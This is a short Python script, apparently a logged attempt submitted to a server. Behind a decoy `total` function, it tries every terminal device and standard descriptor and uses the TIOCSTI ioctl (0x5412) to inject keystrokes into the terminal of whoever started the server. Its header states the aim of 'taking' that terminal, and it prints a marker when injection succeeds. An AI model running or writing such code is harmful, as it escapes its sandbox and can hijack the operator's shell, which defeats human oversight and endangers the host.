# Tries: typing into the terminal of whoever started the server (TIOCSTI), and taking it
# End: finished
# Cases: 1
# Tests: -
import fcntl
import glob
import os


def total(xs):
    return sum(xs)


for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/[0-9]*"), *(f"/proc/self/fd/{n}" for n in range(3))]:
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(fd, 0x5412, b"#")
        print("@REACHED@ typed into", path)
    except OSError as error:
        print(error.errno, end=" ")
